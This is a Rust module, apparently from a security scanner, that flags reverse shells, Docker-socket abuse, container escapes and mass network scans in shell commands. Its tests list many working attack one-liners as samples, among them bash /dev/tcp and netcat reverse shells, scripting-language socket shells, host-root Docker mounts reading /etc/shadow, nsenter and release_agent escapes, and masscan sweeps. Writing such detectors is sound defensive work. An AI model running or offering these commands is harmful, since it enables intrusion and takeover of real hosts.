//! Backdoors beside miners: reverse shells, Docker-socket abuse, container escapes and
//! mass scanners, each judged by what the command does.
//!
//! - reverse shell: an interactive shell or a duplicated stdin on `/dev/tcp/H/P`
//!   (`bash -i >& /dev/tcp/H/P 0>&1`), `nc -e PROG`/`ncat --sh-exec`, `socat exec:… tcp:…`,
//!   python/perl/php/ruby one-liners that connect a socket and spawn a shell, `nc H P | sh`,
//!   and `mkfifo F` with `nc` and a shell in the commands that follow.
//! - Docker socket: `docker -H …` running a `--privileged` container, any `docker run`
//!   mounting the host's root (`-v /:/host`), the Docker API's `/containers/create` over
//!   `--unix-socket …docker.sock` or port 2375/2376.
//! - container escape: `nsenter` into PID 1's namespaces, `chroot` into a host-root mount
//!   point (`/host`), mounting a host block device, writing a cgroup `release_agent`.
//! - mass scanner: `masscan`/`zmap`/`zgrab`/`pnscan` with ports, a rate or a target list, or
//!   any program with a rate, ports and a CIDR target.

use super::fetch::opt_value;
use super::{
    base, excerpt, program_index, words, Behaviour, BehaviourKind, Grammar, Sep, ShellCommand,
};

const SHELLS: &[&str] = &["sh", "bash", "dash", "ash", "zsh", "ksh", "mksh"];
const NETCATS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "telnet",
    "openssl",
];

fn found(kind: BehaviourKind, sig: &str, c: &ShellCommand) -> Behaviour {
    Behaviour {
        kind,
        signature: sig.into(),
        excerpt: excerpt(&c.text),
        line: Some(c.line),
    }
}

fn cidr(a: &str) -> bool {
    let Some((ip, bits)) = a.split_once('/') else {
        return false;
    };
    ip.split('.').count() == 4
        && ip.split('.').all(|o| o.parse::<u8>().is_ok())
        && bits.parse::<u8>().is_ok_and(|b| b <= 32)
}

/// Behaviours visible in one command.
pub fn judge_one(g: &Grammar, c: &ShellCommand) -> Vec<Behaviour> {
    let mut out = Vec::new();
    let w = words(c);
    let Some(p) = program_index(w) else {
        return out;
    };
    let prog = base(&w[p]);
    let args = &w[p + 1..];
    let t = c.text.as_str();
    let has = |s: &str| args.iter().any(|a| a == s);
    use BehaviourKind::*;

    // Reverse shells.
    if t.contains("/dev/tcp/") || t.contains("/dev/udp/") {
        let interactive = SHELLS.contains(&prog) && has("-i");
        let dup =
            t.contains("0>&1") || t.contains("0<&") || t.contains(">&0") || t.contains("0>&2");
        if interactive || dup {
            out.push(found(ReverseShell, "reverse-shell:dev-tcp", c));
        }
    }
    if NETCATS[..5].contains(&prog) {
        let exec = opt_value(args, 'e', "--exec").is_some()
            || has("--sh-exec")
            || has("--lua-exec")
            || (prog == "ncat" && opt_value(args, 'c', "--sh-exec").is_some());
        if exec {
            out.push(found(ReverseShell, "reverse-shell:nc-exec", c));
        }
    }
    if prog == "socat" {
        let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
        let exec = lower
            .iter()
            .any(|a| a.starts_with("exec:") || a.starts_with("system:"));
        let net = lower.iter().any(|a| {
            ["tcp", "udp", "openssl", "ssl", "sctp"]
                .iter()
                .any(|p| a.starts_with(p))
        });
        if exec && net {
            out.push(found(ReverseShell, "reverse-shell:socat-exec", c));
        }
    }
    let code = args
        .iter()
        .any(|a| a == "-c" || a == "-e" || a == "-r" || a.starts_with("-rsocket"));
    if code {
        let shellish = t.contains("/bin/sh") || t.contains("/bin/bash") || t.contains("pty.spawn");
        let sig = if prog.starts_with("python") {
            (t.contains("socket")
                && t.contains("connect")
                && (shellish || t.contains("dup2") || t.contains("subprocess")))
            .then_some("reverse-shell:python")
        } else if prog == "perl" {
            (t.contains("Socket")
                && (t.contains("exec") || t.contains("STDIN"))
                && (shellish || t.contains("open(")))
            .then_some("reverse-shell:perl")
        } else if prog.starts_with("php") {
            (t.contains("fsockopen") && (shellish || t.contains("proc_open") || t.contains("exec")))
                .then_some("reverse-shell:php")
        } else if prog == "ruby" {
            (t.contains("TCPSocket") && (shellish || t.contains("exec") || t.contains("spawn")))
                .then_some("reverse-shell:ruby")
        } else {
            None
        };
        if let Some(s) = sig {
            out.push(found(ReverseShell, s, c));
        }
    }

    // Docker socket.
    if prog == "docker" || prog == "podman" {
        let host = opt_value(args, 'H', "--host").is_some();
        let run = args.iter().any(|a| a == "run" || a == "create");
        let privileged = has("--privileged") || has("--pid=host") || t.contains("--pid host");
        let mut host_root = false;
        for (i, a) in args.iter().enumerate() {
            let v = match a.as_str() {
                "-v" | "--volume" | "--mount" => args.get(i + 1).map(String::as_str),
                _ => a
                    .strip_prefix("--volume=")
                    .or_else(|| a.strip_prefix("--mount="))
                    .or_else(|| a.strip_prefix("-v").filter(|r| r.starts_with('/'))),
            };
            if let Some(v) = v {
                host_root |= v.starts_with("/:")
                    || v.split(',').any(|kv| matches!(kv, "source=/" | "src=/"));
            }
        }
        if run && host_root {
            out.push(found(DockerSocket, "docker-socket:run-host-root", c));
        } else if run && host && privileged {
            out.push(found(DockerSocket, "docker-socket:remote-privileged", c));
        }
    }
    if prog == "curl" {
        let sock = opt_value(args, '\0', "--unix-socket").is_some_and(|s| s.contains("docker"));
        let api = t.contains(":2375/") || t.contains(":2376/");
        let create = t.contains("/containers/create") || t.contains("/exec");
        if (sock || api) && create {
            out.push(found(DockerSocket, "docker-socket:api-create", c));
        }
    }

    // Container escape.
    if prog == "nsenter" {
        let target = opt_value(args, 't', "--target").is_some_and(|v| v == "1");
        if target {
            out.push(found(ContainerEscape, "container-escape:nsenter-pid1", c));
        }
    }
    if prog == "chroot" {
        if let Some(dir) = args.iter().find(|a| !a.starts_with('-')) {
            let d = dir.trim_end_matches('/');
            if g.host_roots.iter().any(|r| d == r) {
                out.push(found(ContainerEscape, "container-escape:chroot-host", c));
            }
        }
    }
    if prog == "mount" {
        let disk = args.iter().any(|a| {
            let d = a.strip_prefix("/dev/").unwrap_or("");
            ["sd", "xvd", "vd", "hd", "nvme", "mmcblk"]
                .iter()
                .any(|p| d.starts_with(p) && d.len() > p.len())
        });
        if disk {
            out.push(found(
                ContainerEscape,
                "container-escape:mount-host-disk",
                c,
            ));
        }
    }
    if t.contains("release_agent") && (t.contains('>') || prog == "tee") {
        out.push(found(
            ContainerEscape,
            "container-escape:cgroup-release-agent",
            c,
        ));
    }

    // Mass scanners.
    let ports = args.iter().any(|a| {
        a == "-p"
            || a == "--ports"
            || a == "--port"
            || a.starts_with("--ports=")
            || a.starts_with("--port=")
            || (a.starts_with("-p") && a[2..].starts_with(|ch: char| ch.is_ascii_digit()))
    });
    let rate = args.iter().any(|a| {
        a == "--rate"
            || a == "--max-rate"
            || a == "-r"
            || a.starts_with("--rate=")
            || a.starts_with("--max-rate=")
    });
    let list = args
        .iter()
        .any(|a| a == "-iL" || a == "--input-file" || a.starts_with("-iL"));
    if g.scanners.iter().any(|s| s == prog) && (ports || rate || list) {
        out.push(found(MassScanner, &format!("mass-scanner:{prog}"), c));
    } else if ports && rate && args.iter().any(|a| cidr(a)) {
        out.push(found(MassScanner, "mass-scanner:rate+ports+cidr", c));
    }
    out
}

/// Behaviours spread over the commands of a sequence.
pub fn judge_sequence(cmds: &[ShellCommand]) -> Vec<Behaviour> {
    let mut out = Vec::new();
    let prog_of =
        |c: &ShellCommand| program_index(words(c)).map(|i| base(&words(c)[i]).to_string());
    for (i, c) in cmds.iter().enumerate() {
        let Some(p) = prog_of(c) else { continue };
        // `nc H P | sh`
        if NETCATS.contains(&p.as_str()) {
            if let Some(n) = cmds.get(i + 1).filter(|n| n.after == Sep::Pipe) {
                if prog_of(n).is_some_and(|q| SHELLS.contains(&q.as_str())) {
                    out.push(found(
                        BehaviourKind::ReverseShell,
                        "reverse-shell:nc-pipe-shell",
                        n,
                    ));
                }
            }
        }
        // `mkfifo F; cat F | sh -i 2>&1 | nc H P > F`
        if p == "mkfifo" || (p == "mknod" && words(c).iter().any(|w| w == "p")) {
            let Some(fifo) = words(c)
                .iter()
                .skip(1)
                .find(|w| w.starts_with('/') || w.contains('/'))
            else {
                continue;
            };
            let window = &cmds[i + 1..cmds.len().min(i + 6)];
            let shell = window
                .iter()
                .any(|n| prog_of(n).is_some_and(|q| SHELLS.contains(&q.as_str())));
            let net = window
                .iter()
                .find(|n| prog_of(n).is_some_and(|q| NETCATS.contains(&q.as_str())));
            let uses = window.iter().any(|n| n.text.contains(fifo.as_str()));
            if let (true, Some(n), true) = (shell, net, uses) {
                out.push(found(
                    BehaviourKind::ReverseShell,
                    "reverse-shell:mkfifo-nc",
                    n,
                ));
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::super::testing::*;
    use super::super::BehaviourKind::*;

    #[test]
    fn reverse_shells() {
        for s in [
            "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1",
            "sh -i >& /dev/udp/198.51.100.1/53 0>&1",
            "/bin/bash -c 'exec 0<&196; bash <&196 >&196 2>&196' 196<>/dev/tcp/h/1",
            "nc -e /bin/sh 198.51.100.1 4444",
            "nc.traditional 198.51.100.1 4444 -e /bin/bash",
            "ncat --sh-exec 'bash -i' 198.51.100.1 443",
            "socat exec:'bash -li',pty,stderr,setsid tcp:198.51.100.1:4444",
            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);import pty;pty.spawn(\"/bin/sh\")'",
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(1,inet_aton(\"h\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
            "php -r '$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
            "nc 198.51.100.1 4444 | /bin/sh",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.1 1234 >/tmp/f",
        ] {
            assert_eq!(kinds(s), [ReverseShell], "{s}");
        }
        for s in [
            "exec 3<>/dev/tcp/localhost/80; echo -e 'GET / HTTP/1.0\\r\\n' >&3; cat <&3",
            "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'",
            "nc -z db 5432",
            "nc -l -p 8080",
            "socat TCP-LISTEN:8080,fork TCP:backend:80",
            "python3 -c 'import socket; print(socket.gethostname())'",
            "perl -e 'print \"hello\"'",
            "mkfifo /tmp/log; tail -f /tmp/log &",
            "curl http://x | nc -q0 logs 514",
        ] {
            assert!(run(s).is_empty(), "{s}: {:?}", run(s));
        }
    }

    #[test]
    fn docker_socket_and_escape() {
        for (s, k) in [
            ("docker -H unix:///var/run/docker.sock run --privileged -d alpine sh", DockerSocket),
            ("docker -H tcp://10.0.0.5:2375 run -d -v /:/host alpine chroot /host sh", DockerSocket),
            ("docker run --rm -v /:/mnt alpine cat /mnt/etc/shadow", DockerSocket),
            ("curl --unix-socket /var/run/docker.sock -d '{\"Image\":\"a\",\"HostConfig\":{\"Binds\":[\"/:/h\"]}}' http://x/containers/create", DockerSocket),
            ("nsenter -t 1 -m -u -n -i sh", ContainerEscape),
            ("nsenter --target=1 --mount -- bash", ContainerEscape),
            ("chroot /host /bin/bash", ContainerEscape),
            ("mount /dev/sda1 /mnt", ContainerEscape),
            ("echo $p/cmd > /sys/fs/cgroup/rdma/release_agent", ContainerEscape),
        ] {
            assert_eq!(kinds(s), [k], "{s}");
        }
        for s in [
            "docker run --rm -v /data:/data alpine ls",
            "docker -H unix:///var/run/docker.sock ps",
            "curl --unix-socket /var/run/docker.sock http://localhost/version",
            "nsenter -t 1234 -n ip addr",
            "chroot /target apt-get install -y x",
            "mount -t tmpfs tmpfs /run",
            "mount /dev/shm",
        ] {
            assert!(run(s).is_empty(), "{s}: {:?}", run(s));
        }
    }

    #[test]
    fn scanners() {
        for s in [
            "masscan -p2375,2376 10.0.0.0/8 --rate=10000 -oL out",
            "zmap -p 2375 -o out.csv",
            "pnscan -r 172.16.0.0/12 2375",
            "./scan -p 6379 --rate 100000 0.0.0.0/0",
        ] {
            assert_eq!(kinds(s), [MassScanner], "{s}");
        }
        assert!(run("masscan --version").is_empty());
        assert!(run("iperf -p 5001 -r").is_empty());
    }
}
